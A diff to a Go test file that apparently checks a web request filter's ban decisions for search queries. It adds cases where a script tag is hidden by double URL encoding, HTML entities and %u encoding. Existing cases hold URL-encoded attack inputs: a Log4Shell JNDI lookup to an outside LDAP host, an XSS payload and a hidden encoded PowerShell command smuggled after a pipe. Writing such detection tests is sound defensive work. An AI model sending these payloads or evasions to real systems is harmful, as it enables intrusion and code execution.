@@ -84,6 +84,10 @@ func TestFreeTextCap(t *testing.T) {
 		{"/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D+log4j+test", true, true, false},
 		{"/search?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E+hello+there", true, true, false},
 		{"/search?q=x%7Cpowershell+-nop+-w+hidden+-enc+SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", true, true, false},
+		// prose that needed an evasion to decode is not a person typing
+		{"/search?q=%253Cscript%253E+defer+async", true, true, false},
+		{"/search?q=%26lt;script%26gt;+defer+async", true, true, false},
+		{"/search?q=%u003cscript%u003e+defer+async", true, true, false},
 		// the same prose in a parameter that is not free text bans
 		{"/page?id=%3Cscript%3E+defer+async", true, true, false},
 		{"/run?cmd=docker+run+-v+%24%28pwd%29%3A%2Fapp", true, true, false},
